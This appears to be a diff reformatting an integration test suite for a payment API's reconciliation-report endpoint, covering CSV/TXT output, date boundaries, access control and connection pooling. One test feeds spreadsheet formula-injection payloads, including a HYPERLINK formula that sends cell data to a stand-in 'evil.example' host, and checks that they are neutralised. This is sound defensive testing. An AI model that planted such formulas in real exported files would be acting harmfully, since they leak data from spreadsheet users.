@@ -4,7 +4,16 @@ import { isoSeconds } from '../../../src/orders/iso-seconds';
 import { REPORT_COLUMNS } from '../../../src/reports/movement-row';
 import { startPaymentStack, PaymentStack } from '../../support/payment-stack';
 import { payer as user, pixQr } from '../../support/qr-fixtures';
-import { csvCellsAsSpreadsheet, isFormulaCell, parseCsv, parseTxt, Row, txtCellsAsSpreadsheet, unguarded, utcDay } from '../../support/report-files';
+import {
+  csvCellsAsSpreadsheet,
+  isFormulaCell,
+  parseCsv,
+  parseTxt,
+  Row,
+  txtCellsAsSpreadsheet,
+  unguarded,
+  utcDay,
+} from '../../support/report-files';
 import { createTestClient, http, TestApi, TestClient } from '../../support/test-api';
 
 const PATH = '/v2/reports/conciliation/payins';
@@ -67,14 +76,32 @@ describe('GET /v2/reports/conciliation/payins', () => {
 
   async function insertRefund(
     orderId: string,
-    fields: { seq: number; status: string; localAmount: string; userAmount: string | null; createdAt?: Date; requestedBy: string; errorCode?: string },
+    fields: {
+      seq: number;
+      status: string;
+      localAmount: string;
+      userAmount: string | null;
+      createdAt?: Date;
+      requestedBy: string;
+      errorCode?: string;
+    },
   ) {
     const createdAt = fields.createdAt ?? new Date();
     await dataSource.query(
       `INSERT INTO refunds (id, order_id, requested_by_client_id, seq, status, local_amount, local_currency, user_amount, user_currency,
                             error_code, created_at, updated_at)
        VALUES ($1, $2, $3, $4, $5, $6, 'BRL', $7, 'USD', $8, $9, $9)`,
-      [randomUUID(), orderId, fields.requestedBy, fields.seq, fields.status, fields.localAmount, fields.userAmount, fields.errorCode ?? null, createdAt],
+      [
+        randomUUID(),
+        orderId,
+        fields.requestedBy,
+        fields.seq,
+        fields.status,
+        fields.localAmount,
+        fields.userAmount,
+        fields.errorCode ?? null,
+        createdAt,
+      ],
     );
   }
 
@@ -93,10 +120,22 @@ describe('GET /v2/reports/conciliation/payins', () => {
   type Payer = Awaited<ReturnType<PaymentStack['newPayer']>>;
 
   /** A preview then a decision, over HTTP; resolves with the order id once it reached `final`. */
-  async function pay(payer: Payer, amount: string, decision: 'accepted' | 'rejected', final: string, reference = `ref-${randomUUID()}`, merchant?: string) {
+  async function pay(
+    payer: Payer,
+    amount: string,
+    decision: 'accepted' | 'rejected',
+    final: string,
+    reference = `ref-${randomUUID()}`,
+    merchant?: string,
+  ) {
     const path = `/hooks/${randomUUID()}`;
     const url = stack.receiver.url(path);
-    const preview = await payer.call.post('/v2/payments/previews', { qr: pixQr(amount, merchant), external_reference: reference, notification_url: url, user });
+    const preview = await payer.call.post('/v2/payments/previews', {
+      qr: pixQr(amount, merchant),
+      external_reference: reference,
+      notification_url: url,
+      user,
+    });
     expect(preview.status).toBe(200);
     const orderId = (await stack.receiver.waitFor(path, (c) => c.body.order !== undefined)).body.order.id as string;
     await payer.call.post('/v2/payments', { order_id: orderId, status: decision, notification_url: url });
@@ -107,7 +146,12 @@ describe('GET /v2/reports/conciliation/payins', () => {
   describe('a payer with real payments and refunds', () => {
     let payer: Payer;
     let stranger: TestClient;
-    const ids: Record<'completed' | 'canceled' | 'rejected' | 'unfunded', string> = { completed: '', canceled: '', rejected: '', unfunded: '' };
+    const ids: Record<'completed' | 'canceled' | 'rejected' | 'unfunded', string> = {
+      completed: '',
+      canceled: '',
+      rejected: '',
+      unfunded: '',
+    };
     const trickyReference = `ref-${randomUUID().slice(0, 8)}, "quoted" | piped\nnext line`;
     const trickyMerchant = 'Bar "Ze", A|B';
 
@@ -121,8 +165,20 @@ describe('GET /v2/reports/conciliation/payins', () => {
       // About 9,000 USD against 1,000 available.
       ids.unfunded = await pay(payer, '49000.00', 'accepted', 'FAILED');
       // The refund API is another issue's: its rows, as it will write them.
-      await insertRefund(ids.completed, { seq: 1, status: 'COMPLETED', localAmount: '40.00', userAmount: '7.45', requestedBy: payer.clientId });
-      await insertRefund(ids.completed, { seq: 2, status: 'PENDING', localAmount: '10.50', userAmount: null, requestedBy: payer.clientId });
+      await insertRefund(ids.completed, {
+        seq: 1,
+        status: 'COMPLETED',
+        localAmount: '40.00',
+        userAmount: '7.45',
+        requestedBy: payer.clientId,
+      });
+      await insertRefund(ids.completed, {
+        seq: 2,
+        status: 'PENDING',
+        localAmount: '10.50',
+        userAmount: null,
+        requestedBy: payer.clientId,
+      });
     }, 120_000);
 
     it('lists every payment whose decision moved or tried to move money, then the refunds, oldest first', async () => {
@@ -154,8 +210,19 @@ describe('GET /v2/reports/conciliation/payins', () => {
         error_code: '',
       });
       expect(payment!.merchant_name).toBe(trickyMerchant);
-      expect(completedRefund).toMatchObject({ external_reference: trickyReference, local_amount: '40.00', user_amount: '7.45', fx_rate: payment!.fx_rate, merchant_name: trickyMerchant });
-      expect(pendingRefund).toMatchObject({ local_amount: '10.50', local_currency: 'BRL', user_amount: '', user_currency: 'USD' });
+      expect(completedRefund).toMatchObject({
+        external_reference: trickyReference,
+        local_amount: '40.00',
+        user_amount: '7.45',
+        fx_rate: payment!.fx_rate,
+        merchant_name: trickyMerchant,
+      });
+      expect(pendingRefund).toMatchObject({
+        local_amount: '10.50',
+        local_currency: 'BRL',
+        user_amount: '',
+        user_currency: 'USD',
+      });
       expect(listed.map((row) => row.order_id)).not.toContain(ids.canceled);
     });
 
@@ -164,10 +231,14 @@ describe('GET /v2/reports/conciliation/payins', () => {
       const txt = await report(payer, `from=${utcDay(-1)}&to=${utcDay(1)}&format=txt`);
       expect(txt.status).toBe(200);
       expect(txt.headers.get('content-type')).toBe('text/plain; charset=utf-8');
-      expect(txt.headers.get('content-disposition')).toBe(`attachment; filename="conciliation-payins-${utcDay(-1)}-${utcDay(1)}.txt"`);
+      expect(txt.headers.get('content-disposition')).toBe(
+        `attachment; filename="conciliation-payins-${utcDay(-1)}-${utcDay(1)}.txt"`,
+      );
       expect(txt.body).toContain('Bar "Ze", A\\|B');
       expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
-      expect(csv.headers.get('content-disposition')).toBe(`attachment; filename="conciliation-payins-${utcDay(-1)}-${utcDay(1)}.csv"`);
+      expect(csv.headers.get('content-disposition')).toBe(
+        `attachment; filename="conciliation-payins-${utcDay(-1)}-${utcDay(1)}.csv"`,
+      );
       expect(csv.headers.get('cache-control')).toBe('no-store');
       expect(parseTxt(txt.body)).toEqual(parseCsv(csv.body));
       expect(parseCsv(csv.body)).toHaveLength(5);
@@ -177,7 +248,9 @@ describe('GET /v2/reports/conciliation/payins', () => {
       const response = await report(stranger, `from=${utcDay(-1)}&to=${utcDay(1)}`);
       expect(response.status).toBe(200);
       expect(response.body).toBe(`${REPORT_COLUMNS.join(',')}\r\n`);
-      expect((await report(stranger, `from=${utcDay(-1)}&to=${utcDay(1)}&format=txt`)).body).toBe(`${REPORT_COLUMNS.join('|')}\n`);
+      expect((await report(stranger, `from=${utcDay(-1)}&to=${utcDay(1)}&format=txt`)).body).toBe(
+        `${REPORT_COLUMNS.join('|')}\n`,
+      );
     });
   });
 
@@ -208,7 +281,14 @@ describe('GET /v2/reports/conciliation/payins', () => {
         ['\t=1+2', '\r=HYPERLINK("https://evil.example")'],
         ['\r@SUM(A1)', '\t+1+1'],
       ] as const) {
-        const orderId = await insertOrder({ payer: payer.clientId, status: 'COMPLETED', createdAt: new Date().toISOString(), decided: true, reference, merchantName: merchant });
+        const orderId = await insertOrder({
+          payer: payer.clientId,
+          status: 'COMPLETED',
+          createdAt: new Date().toISOString(),
+          decided: true,
+          reference,
+          merchantName: merchant,
+        });
         sent.set(orderId, { reference, merchant });
       }
       const stored: Array<{ id: string; external_reference: string; merchant_name: string }> = await dataSource.query(
@@ -216,7 +296,11 @@ describe('GET /v2/reports/conciliation/payins', () => {
         [[...sent.keys()]],
       );
       // The fixtures reached the table unchanged: the file is what is under test.
-      expect(Object.fromEntries(stored.map((order) => [order.id, { reference: order.external_reference, merchant: order.merchant_name }]))).toEqual(Object.fromEntries(sent));
+      expect(
+        Object.fromEntries(
+          stored.map((order) => [order.id, { reference: order.external_reference, merchant: order.merchant_name }]),
+        ),
+      ).toEqual(Object.fromEntries(sent));
     }, 120_000);
 
     const period = () => `from=${utcDay(-1)}&to=${utcDay(1)}`;
@@ -231,7 +315,11 @@ describe('GET /v2/reports/conciliation/payins', () => {
       expect(txtCellsAsSpreadsheet(txt.body).filter(isFormulaCell)).toEqual([]);
       // Each guarded cell begins with the single quote, OWASP's guard, as a spreadsheet shows it.
       expect(csvCellsAsSpreadsheet(csv.body)).toEqual(
-        expect.arrayContaining([`'=HYPERLINK("https://evil.example/?d="&A1,"Open invoice")`, `'\t=1+2`, `'\r=HYPERLINK("https://evil.example")`]),
+        expect.arrayContaining([
+          `'=HYPERLINK("https://evil.example/?d="&A1,"Open invoice")`,
+          `'\t=1+2`,
+          `'\r=HYPERLINK("https://evil.example")`,
+        ]),
       );
     });
 
@@ -239,7 +327,13 @@ describe('GET /v2/reports/conciliation/payins', () => {
       const csvRows = parseCsv((await report(payer, `${period()}&format=csv`)).body);
       const txtRows = parseTxt((await report(payer, `${period()}&format=txt`)).body);
       expect(txtRows).toEqual(csvRows);
-      expect(Object.fromEntries(csvRows.map(unguarded).map((row) => [row.order_id, { reference: row.external_reference, merchant: row.merchant_name }]))).toEqual(Object.fromEntries(sent));
+      expect(
+        Object.fromEntries(
+          csvRows
+            .map(unguarded)
+            .map((row) => [row.order_id, { reference: row.external_reference, merchant: row.merchant_name }]),
+        ),
+      ).toEqual(Object.fromEntries(sent));
       // The amounts are numbers, never guarded.
       expect(csvRows.map((row) => row.local_amount)).toEqual(expect.arrayContaining(['10.00', '50.00']));
     });
@@ -247,14 +341,42 @@ describe('GET /v2/reports/conciliation/payins', () => {
 
   it('takes whole UTC days: from at 00:00, to included up to its last millisecond', async () => {
     const client = await createTestClient(api);
-    const before = await insertOrder({ payer: client.clientId, status: 'COMPLETED', createdAt: '2026-03-31T23:59:59.999Z', decided: true });
-    const first = await insertOrder({ payer: client.clientId, status: 'COMPLETED', createdAt: '2026-04-01T00:00:00.000Z', decided: true });
-    const last = await insertOrder({ payer: client.clientId, status: 'COMPLETED', createdAt: '2026-04-30T23:59:59.999Z', decided: true });
-    const after = await insertOrder({ payer: client.clientId, status: 'COMPLETED', createdAt: '2026-05-01T00:00:00.001Z', decided: true });
+    const before = await insertOrder({
+      payer: client.clientId,
+      status: 'COMPLETED',
+      createdAt: '2026-03-31T23:59:59.999Z',
+      decided: true,
+    });
+    const first = await insertOrder({
+      payer: client.clientId,
+      status: 'COMPLETED',
+      createdAt: '2026-04-01T00:00:00.000Z',
+      decided: true,
+    });
+    const last = await insertOrder({
+      payer: client.clientId,
+      status: 'COMPLETED',
+      createdAt: '2026-04-30T23:59:59.999Z',
+      decided: true,
+    });
+    const after = await insertOrder({
+      payer: client.clientId,
+      status: 'COMPLETED',
+      createdAt: '2026-05-01T00:00:00.001Z',
+      decided: true,
+    });
     // A refund belongs to the day it was made, not to its order's.
-    await insertRefund(last, { seq: 1, status: 'COMPLETED', localAmount: '5.00', userAmount: '0.93', createdAt: new Date('2026-05-01T00:00:00.000Z'), requestedBy: client.clientId });
+    await insertRefund(last, {
+      seq: 1,
+      status: 'COMPLETED',
+      localAmount: '5.00',
+      userAmount: '0.93',
+      createdAt: new Date('2026-05-01T00:00:00.000Z'),
+      requestedBy: client.clientId,
+    });
 
-    const ids = async (from: string, to: string) => (await rows(client, from, to)).map((row) => `${row.type} ${row.order_id}`);
+    const ids = async (from: string, to: string) =>
+      (await rows(client, from, to)).map((row) => `${row.type} ${row.order_id}`);
     expect(await ids('2026-04-01', '2026-04-30')).toEqual([`PAYMENT ${first}`, `PAYMENT ${last}`]);
     expect(await ids('2026-04-30', '2026-04-30')).toEqual([`PAYMENT ${last}`]);
     expect(await ids('2026-05-01', '2026-05-01')).toEqual([`REFUND ${last}`, `PAYMENT ${after}`]);
@@ -267,23 +389,48 @@ describe('GET /v2/reports/conciliation/payins', () => {
     const at = '2026-06-10T12:00:00Z';
     const listed = {
       PROCESSING: await insertOrder({ payer: client.clientId, status: 'PROCESSING', createdAt: at, decided: true }),
-      PARTIALLY_REFUNDED: await insertOrder({ payer: client.clientId, status: 'PARTIALLY_REFUNDED', createdAt: at, decided: true }),
+      PARTIALLY_REFUNDED: await insertOrder({
+        payer: client.clientId,
+        status: 'PARTIALLY_REFUNDED',
+        createdAt: at,
+        decided: true,
+      }),
       REFUNDED: await insertOrder({ payer: client.clientId, status: 'REFUNDED', createdAt: at, decided: true }),
-      FAILED: await insertOrder({ payer: client.clientId, status: 'FAILED', createdAt: at, decided: true, errorCode: 'UPSTREAM_ERROR' }),
+      FAILED: await insertOrder({
+        payer: client.clientId,
+        status: 'FAILED',
+        createdAt: at,
+        decided: true,
+        errorCode: 'UPSTREAM_ERROR',
+      }),
     };
-    for (const status of ['WAITING_AMOUNT', 'PROCESS_LATER', 'CREATED']) await insertOrder({ payer: client.clientId, status, createdAt: at });
+    for (const status of ['WAITING_AMOUNT', 'PROCESS_LATER', 'CREATED'])
+      await insertOrder({ payer: client.clientId, status, createdAt: at });
     await insertOrder({ payer: client.clientId, status: 'CANCELED', createdAt: at, errorCode: 'EXPIRED' });
     // The merchant could not be resolved: it failed before anyone paid.
     await insertOrder({ payer: client.clientId, status: 'FAILED', createdAt: at, errorCode: 'UPSTREAM_ERROR' });
 
     const found = await rows(client, '2026-06-10', '2026-06-10');
     expect(found.map((row) => row.order_id).sort()).toEqual(Object.values(listed).sort());
-    expect(found.find((row) => row.order_id === listed.FAILED)).toMatchObject({ status: 'FAILED', error_code: 'UPSTREAM_ERROR' });
+    expect(found.find((row) => row.order_id === listed.FAILED)).toMatchObject({
+      status: 'FAILED',
+      error_code: 'UPSTREAM_ERROR',
+    });
   });
 
   it('shows a collected order to its payer and to its collector, and to no one else', async () => {
-    const [payerClient, collector, third] = [await createTestClient(api), await createTestClient(api), await createTestClient(api)];
-    const orderId = await insertOrder({ payer: payerClient.clientId, collector: collector.clientId, status: 'COMPLETED', createdAt: '2026-07-01T10:00:00Z', decided: true });
+    const [payerClient, collector, third] = [
+      await createTestClient(api),
+      await createTestClient(api),
+      await createTestClient(api),
+    ];
+    const orderId = await insertOrder({
+      payer: payerClient.clientId,
+      collector: collector.clientId,
+      status: 'COMPLETED',
+      createdAt: '2026-07-01T10:00:00Z',
+      decided: true,
+    });
     await insertRefund(orderId, {
       seq: 1,
       status: 'REJECTED',
@@ -316,7 +463,14 @@ describe('GET /v2/reports/conciliation/payins', () => {
   });
 
   describe('holding connections', () => {
-    const activeCursors = async () => Number((await dataSource.query(`SELECT count(*) AS n FROM pg_stat_activity WHERE state <> 'idle' AND query LIKE '/* reconciliation file */%'`))[0].n);
+    const activeCursors = async () =>
+      Number(
+        (
+          await dataSource.query(
+            `SELECT count(*) AS n FROM pg_stat_activity WHERE state <> 'idle' AND query LIKE '/* reconciliation file */%'`,
+          )
+        )[0].n,
+      );
 
     it('streams at most a quarter of the pool at once, and a reader that goes away gives its connection back', async () => {
       // A pool of 4: one file at a time.
@@ -333,12 +487,17 @@ describe('GET /v2/reports/conciliation/payins', () => {
       const refused = await fetch(url, { headers });
       expect(refused.status).toBe(429);
       expect(refused.headers.get('retry-after')).toBe('5');
-      expect(await refused.json()).toEqual({ statusCode: 429, message: expect.any(String), error_code: 'RATE_LIMITED' });
+      expect(await refused.json()).toEqual({
+        statusCode: 429,
+        message: expect.any(String),
+        error_code: 'RATE_LIMITED',
+      });
       expect(await activeCursors()).toBe(1);
 
       reader.abort();
       const deadline = Date.now() + 10_000;
-      while ((await activeCursors()) > 0 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
+      while ((await activeCursors()) > 0 && Date.now() < deadline)
+        await new Promise((resolve) => setTimeout(resolve, 50));
       expect(await activeCursors()).toBe(0);
 
       let next = await fetch(url, { headers });
@@ -355,17 +514,22 @@ describe('GET /v2/reports/conciliation/payins', () => {
       const bounded = await stack.extraApi({ DATABASE_POOL_SIZE: '4', DATABASE_STATEMENT_TIMEOUT: '1s' });
       const client = await createTestClient(bounded);
       await insertManyOrders(client.clientId, 60_000, '2026-10-01', 'M'.repeat(150));
-      const response = await fetch(`${bounded.baseUrl}${PATH}?from=2026-10-01&to=2026-10-01`, { headers: { authorization: `Bearer ${client.token}` } });
+      const response = await fetch(`${bounded.baseUrl}${PATH}?from=2026-10-01&to=2026-10-01`, {
+        headers: { authorization: `Bearer ${client.token}` },
+      });
       expect(response.status).toBe(200);
       const reader = response.body!.getReader();
       const first = await reader.read();
       // The cursor's statement now outlives statement_timeout, waiting for this reader.
       await new Promise((resolve) => setTimeout(resolve, 2500));
       const chunks = [Buffer.from(first.value)];
-      for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) chunks.push(Buffer.from(chunk.value));
+      for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read())
+        chunks.push(Buffer.from(chunk.value));
       expect(Buffer.concat(chunks).toString('utf8').split('\r\n')).toHaveLength(60_002);
       // The pool hands out its most recently returned connection: the file's.
-      expect(await bounded.dataSource.query(`SELECT current_setting('statement_timeout') AS value`)).toEqual([{ value: '1s' }]);
+      expect(await bounded.dataSource.query(`SELECT current_setting('statement_timeout') AS value`)).toEqual([
+        { value: '1s' },
+      ]);
     }, 60_000);
   });
 
@@ -396,9 +560,15 @@ describe('GET /v2/reports/conciliation/payins', () => {
 
     it('is described in the OpenAPI document: its parameters, both media types and its errors', async () => {
       const operation = (await http(api.baseUrl, null).get('/docs-json')).body.paths[PATH].get;
-      expect(operation.parameters.map((parameter: { name: string; in: string }) => `${parameter.in}:${parameter.name}`).sort()).toEqual(['query:format', 'query:from', 'query:to']);
+      expect(
+        operation.parameters
+          .map((parameter: { name: string; in: string }) => `${parameter.in}:${parameter.name}`)
+          .sort(),
+      ).toEqual(['query:format', 'query:from', 'query:to']);
       expect(Object.keys(operation.responses['200'].content).sort()).toEqual(['text/csv', 'text/plain']);
-      expect(parseCsv(operation.responses['200'].content['text/csv'].example)).toEqual(parseTxt(operation.responses['200'].content['text/plain'].example));
+      expect(parseCsv(operation.responses['200'].content['text/csv'].example)).toEqual(
+        parseTxt(operation.responses['200'].content['text/plain'].example),
+      );
       expect(Object.keys(operation.responses)).toEqual(expect.arrayContaining(['200', '400', '401', '429']));
       expect(operation.security).toEqual([{ bearer: [] }]);
     });
